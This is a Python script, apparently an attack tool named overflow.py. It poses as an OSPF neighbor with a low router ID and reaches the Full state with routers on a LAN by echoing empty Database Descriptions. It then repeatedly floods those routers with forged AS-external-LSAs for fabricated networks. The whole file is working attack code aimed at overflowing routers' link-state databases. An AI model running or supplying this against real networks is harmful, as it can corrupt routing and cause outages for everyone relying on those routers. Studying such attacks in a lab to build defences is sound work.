"""Becomes a neighbor, Backup Designated Router, and pours AS-external-LSAs of made-up networks into the others' databases.

overflow.py INTERFACE ADDRESS ROUTER-ID DESIGNATED MASK HELLO/DEAD NUMBER SECONDS

Not more than that of a router: it says Hello to whom it hears, echoes Database Descriptions as a slave with nothing to describe, and
asks for nothing. Its Router ID is to be lower than that of the others. Whom it becomes Full with begins to receive the LSAs, several
times, since it keeps no account of what is acknowledged.
"""

import socket
import struct
import sys
import threading
import time
from operator import mul

from lan import ALL_SPF_ROUTERS, E_BIT, OSPF, Lan, hello

from scapy.contrib.ospf import OSPF_DBDesc, OSPF_Hdr
from scapy.layers.inet import IP

HELLO, DATABASE_DESCRIPTION = 1, 2
MORE = 0x02
LSA_LENGTH = 36
LSAS_IN_AN_UPDATE = 40
UPDATES_AT_ONCE = 10
PAUSE = 0.004
FIRST_NETWORK = 0x0B000000  # 11.0.0.0/28 and those after it
WEIGHTS = range(LSA_LENGTH - 2, 0, -1)


class Neighbor(threading.Thread):
    """The least of a router that others become Full with."""

    def __init__(self, lan, interface, address, router_id, designated, mask, intervals):
        super().__init__(daemon=True)
        self.heard, self.described = set(), set()
        self._lan, self._address, self._router_id = lan, address, router_id
        self._designated, self._mask, self._intervals = designated, mask, intervals
        self._socket = socket.socket(socket.AF_INET, socket.SOCK_RAW, OSPF)
        membership = socket.inet_aton(ALL_SPF_ROUTERS) + socket.inet_aton(address)
        self._socket.setsockopt(socket.IPPROTO_IP, socket.IP_ADD_MEMBERSHIP, membership)
        self._socket.setsockopt(socket.SOL_SOCKET, socket.SO_BINDTODEVICE, interface.encode())

    def say_hello(self):
        packet = hello(self._mask, self._intervals, 1, self._designated, self._address, sorted(self.heard))
        self._lan.send(self._address, self._router_id, ALL_SPF_ROUTERS, packet)

    def run(self):
        while True:
            datagram = self._socket.recv(65535)
            packet = datagram[20:]
            source = socket.inet_ntoa(datagram[12:16])
            if source == self._address or packet[1] not in (HELLO, DATABASE_DESCRIPTION):
                continue
            if packet[1] == HELLO:
                self.heard.add(socket.inet_ntoa(packet[4:8]))
            else:
                self._echo(source, packet)

    def _echo(self, source, packet):
        flags, sequence = packet[27], struct.unpack("!I", packet[28:32])[0]
        answer = OSPF_DBDesc(mtu=1500, options=E_BIT, dbdescr=0, ddseq=sequence, lsaheaders=[])
        self._lan.send(self._address, self._router_id, source, answer)
        if not flags & MORE:
            self.described.add(source)


def external(number, router_id):
    """An AS-external-LSA, with its checksum (RFC 905 annex B): the sums over all that is behind the age are to be 0 modulo 255."""
    network = struct.pack("!I", FIRST_NETWORK + 16 * number)
    head = b"\x02\x05" + network + router_id + b"\x80\x00\x00\x01"
    body = b"\x00\x24" + b"\xff\xff\xff\xf0" + b"\x80\x00\x00\x14" + bytes(8)
    octets = head + b"\x00\x00" + body
    first, second = sum(octets) % 255, sum(map(mul, octets, WEIGHTS)) % 255
    behind = LSA_LENGTH - 17  # octets behind the checksum's first one, with the second
    x = (behind * first - second) % 255 or 255
    y = (second - (behind + 1) * first) % 255 or 255
    return b"\x00\x01" + head + bytes((x, y)) + body


def updates(count, router_id):
    identity = socket.inet_aton(router_id)
    for begin in range(0, count, LSAS_IN_AN_UPDATE):
        numbers = range(begin, min(count, begin + LSAS_IN_AN_UPDATE))
        yield struct.pack("!I", len(numbers)) + b"".join(external(number, identity) for number in numbers)


def datagrams(count, address, router_id):
    for body in updates(count, router_id):
        packet = OSPF_Hdr(type=4, src=router_id) / body
        yield bytes(IP(src=address, dst=ALL_SPF_ROUTERS, proto=OSPF, ttl=1) / packet)


def keep_saying_hello(neighbor, seconds):
    while True:
        neighbor.say_hello()
        time.sleep(seconds)


def pour(lan, prepared, end):
    while True:
        for number, datagram in enumerate(prepared):
            lan.send_datagram(ALL_SPF_ROUTERS, datagram)
            if number % UPDATES_AT_ONCE == 0:
                time.sleep(PAUSE)
            if time.monotonic() > end:
                return
        print("all sent", flush=True)


def main(interface, address, router_id, designated, mask, intervals, count, seconds):
    lan = Lan(interface)
    prepared = list(datagrams(int(count), address, router_id))
    pair = [int(each) for each in intervals.split("/")]
    neighbor = Neighbor(lan, interface, address, router_id, designated, mask, pair)
    neighbor.start()
    threading.Thread(target=keep_saying_hello, args=(neighbor, pair[0] / 2), daemon=True).start()
    print("prepared", len(prepared), flush=True)
    while len(neighbor.described) < 2:
        time.sleep(0.1)
    print("full", flush=True)
    pour(lan, prepared, time.monotonic() + float(seconds))


main(*sys.argv[1:])
